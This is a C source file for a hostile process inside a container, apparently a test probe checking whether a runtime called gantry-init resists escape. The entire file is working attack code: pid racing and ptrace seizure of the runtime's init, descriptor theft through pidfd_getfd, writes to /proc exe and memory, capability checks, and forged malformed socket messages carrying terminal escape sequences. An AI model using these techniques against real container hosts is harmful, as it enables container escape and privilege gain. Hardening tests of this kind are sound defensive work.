// A hostile process of a container: falls upon every process that appears in its pid namespace, above all upon a
// runtime's that is not the user's program yet, and tells what it won.
//
// usage: hunter CAPABILITIES [VICTIM]
//   CAPABILITIES  in hexadecimal: what the container may have
//   VICTIM        a pid of the host; with it the init that is caught speaks to its runtime in the attacker's words
//
// Prints a line each: "ready"; "sighted" for a process that still is the runtime's; "traced" for one that could be
// taken over; "forged" for one that was made to speak; "win WHAT ..." for what no container may have. What a process
// with CAP_SYS_PTRACE may do to others of its pid namespace is none, as long as that brings nothing of the host.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 8 // pids that are looked for before they exist

static uint64_t allowed;
static int victim;
static struct stat root;

static const char *in_proc(int pid, const char *name) {
    static char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

static int is_same(const struct stat *a, const struct stat *b) {
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/// Whether going up from a directory ends in our root; the host's tree would have another one.
static int is_ours(int directory) {
    struct stat here, above;
    int fd = dup(directory);
    while (fd >= 0 && fstat(fd, &here) == 0) {
        if (is_same(&here, &root)) {
            close(fd);
            return 1;
        }
        int parent = openat(fd, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        close(fd);
        fd = parent;
        if (fd < 0 || fstat(fd, &above) < 0 || is_same(&here, &above))
            break;
    }
    if (fd >= 0)
        close(fd);
    return 0;
}

/// A descriptor that was got hold of: a directory of the host, or an image or plan of the runtime's, is a win.
static void judge(const char *what, int pid, int fd) {
    struct stat status;
    if (fd < 0 || fstat(fd, &status) < 0)
        return;
    if (S_ISDIR(status.st_mode) && !is_ours(fd))
        printf("win %s %d directory %llx:%llu\n", what, pid, (unsigned long long)status.st_dev,
               (unsigned long long)status.st_ino);
    char path[64], target[256] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, "memfd") != NULL)
        printf("win %s %d %s\n", what, pid, target);
}

static void try_path(const char *what, int pid, const char *name, int flags) {
    int fd = open(in_proc(pid, name), flags | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    judge(what, pid, fd);
    if (fd >= 0)
        close(fd);
}

static void try_executable(int pid) {
    int fd = open(in_proc(pid, "exe"), O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        fd = open(in_proc(pid, "exe"), O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return;
    // What is open for writing is no win before it can be written.
    if (write(fd, "evil", 4) > 0 || ftruncate(fd, 0) == 0)
        printf("win exe %d\n", pid);
    close(fd);
}

static void try_descriptors(int pid) {
    DIR *directory = opendir(in_proc(pid, "fd"));
    if (directory == NULL)
        return;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (struct dirent *entry; (entry = readdir(directory)) != NULL;) {
        if (entry->d_name[0] == '.')
            continue;
        char name[64];
        snprintf(name, sizeof name, "fd/%.16s/", entry->d_name);
        try_path("fd-directory", pid, name, O_PATH | O_DIRECTORY);
        snprintf(name, sizeof name, "fd/%.16s/..", entry->d_name);
        try_path("fd-parent", pid, name, O_PATH | O_DIRECTORY);
        int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, atoi(entry->d_name), 0);
        judge("getfd", pid, fd);
        if (fd >= 0)
            close(fd);
    }
    if (pidfd >= 0)
        close(pidfd);
    closedir(directory);
}

/// Rights that the container has not been given.
static void try_capabilities(int pid) {
    char text[4096] = "";
    int fd = open(in_proc(pid, "status"), O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0)
        close(fd);
    text[length < 0 ? 0 : length] = 0;
    static const char *const sets[] = {"CapPrm:\t", "CapEff:\t", "CapBnd:\t", "CapInh:\t", "CapAmb:\t"};
    for (size_t i = 0; i < sizeof sets / sizeof *sets; i++) {
        const char *line = strstr(text, sets[i]);
        uint64_t have = line == NULL ? 0 : strtoull(line + strlen(sets[i]), NULL, 16);
        if (have & ~allowed)
            printf("win capabilities %d %s%llx\n", pid, sets[i], (unsigned long long)have);
    }
}

/// struct cplan_message of Sources/CPlan/include/CPlan.h.
struct message {
    uint32_t type;
    int32_t value;
    uint32_t op;
    int32_t error;
    uint32_t detail;
    uint32_t length;
};

static void say(int fd, struct message message, const void *detail, size_t length, int passed) {
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(3 * sizeof(int))];
    } control = {.header = {CMSG_LEN(3 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
    memcpy(CMSG_DATA(&control.header), (int[3]){passed, passed, passed}, 3 * sizeof(int));
    struct iovec parts[2] = {{&message, sizeof message}, {(void *)detail, length}};
    struct msghdr header = {.msg_iov = parts, .msg_iovlen = 2};
    if (passed >= 0) {
        header.msg_control = &control;
        header.msg_controllen = sizeof control;
    }
    sendmsg(fd, &header, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/// One of the things that a runtime must take with composure.
static void forge(int fd, int kind) {
    static const char escape[] = "/\033[2J\033]0;owned\007\r\n\x9b" "1;31m\0#!/\033c\r\nsecond line";
    static char much[100000];
    switch (kind % 8) {
    case 0: say(fd, (struct message){1, victim, 0, 0, 0, 0}, "", 0, -1); break;
    case 1: say(fd, (struct message){3, 47, 1 << 30, 13, 9, sizeof escape}, escape, sizeof escape, -1); break;
    case 2:
        for (uint32_t op = 0; op < 40; op++)
            say(fd, (struct message){3, 47, op, 2, 9, sizeof escape}, escape, sizeof escape, -1);
        break;
    case 3: say(fd, (struct message){3, 0, 20, INT32_MIN, ~0u, ~0u}, much, sizeof much, -1); break;
    case 4: say(fd, (struct message){2, 3, 0, 0, 0, 0}, "", 0, 0); break;
    case 5: send(fd, "", 0, MSG_NOSIGNAL | MSG_DONTWAIT); break;
    case 6: say(fd, (struct message){1, victim, 0, 0, 0, 0}, "", 0, -1); /* fall through */
    case 7:
        for (int i = 0; i < 30; i++)
            say(fd, (struct message){(uint32_t)i % 5, victim, 0, 0, 0, 0}, "", 0, -1);
        break;
    }
}

/// Speaks through the sockets of a process.
static void speak(int pid) {
    static int kind;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int number = 3; pidfd >= 0 && number < 256; number++) {
        struct stat status;
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (fd >= 0 && fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode)) {
            forge(fd, kind++);
            printf("forged\n");
        }
        if (fd >= 0)
            close(fd);
    }
    if (pidfd >= 0)
        close(pidfd);
}

static int is_process_of_runtime(int pid) {
    char name[32] = "";
    int fd = open(in_proc(pid, "comm"), O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    return length > 0 && strncmp(name, "gantry-init", 11) == 0;
}

static void try_memory(int pid, int is_early) {
    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    process_vm_writev(pid, &local, 1, &remote, 1, 0);
    int fd = open(in_proc(pid, "mem"), O_RDWR | O_CLOEXEC);
    if (fd >= 0)
        close(fd);
    if (!is_early || ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    // It may have become the user's program meanwhile.
    if (is_process_of_runtime(pid))
        printf("traced\n");
    try_capabilities(pid);
    try_descriptors(pid);
    if (victim > 0)
        speak(pid);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void fall_upon(int pid) {
    int early = is_process_of_runtime(pid);
    if (early)
        printf("sighted\n");
    if (early && victim > 0)
        speak(pid);
    if (early)
        try_capabilities(pid);
    try_memory(pid, early);
    try_executable(pid);
    try_descriptors(pid);
    try_path("root", pid, "root/", O_PATH | O_DIRECTORY);
    try_path("root-parent", pid, "root/..", O_PATH | O_DIRECTORY);
    try_path("cwd", pid, "cwd/", O_PATH | O_DIRECTORY);
    try_path("cwd-parent", pid, "cwd/../../../..", O_PATH | O_DIRECTORY);
}

/// The pid that was given last in our namespace, as the kernel tells it in /proc/loadavg.
static int last_pid(void) {
    char text[128] = "";
    int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0)
        close(fd);
    text[length < 0 ? 0 : length] = 0;
    const char *last = strrchr(text, ' ');
    return last == NULL ? 0 : atoi(last);
}

int main(int argc, char **argv) {
    if (argc < 2 || stat("/", &root) < 0)
        return 2;
    allowed = strtoull(argv[1], NULL, 16);
    victim = argc > 2 ? atoi(argv[2]) : 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGCHLD, SIG_IGN);
    printf("ready\n");
    int next = getpid() + 1;
    for (unsigned sweep = 1;; sweep++) {
        // Those that came and went while we did not run are of no use.
        int last = sweep % 64 == 0 ? last_pid() : 0;
        if (last - AHEAD / 2 > next)
            next = last - AHEAD / 2;
        // The kernel counts pids up: the next one is known before it is there.
        for (int pid = next; pid < next + AHEAD; pid++) {
            if (kill(pid, 0) < 0 && errno == ESRCH)
                continue;
            next = pid + 1;
            fall_upon(pid);
        }
    }
}
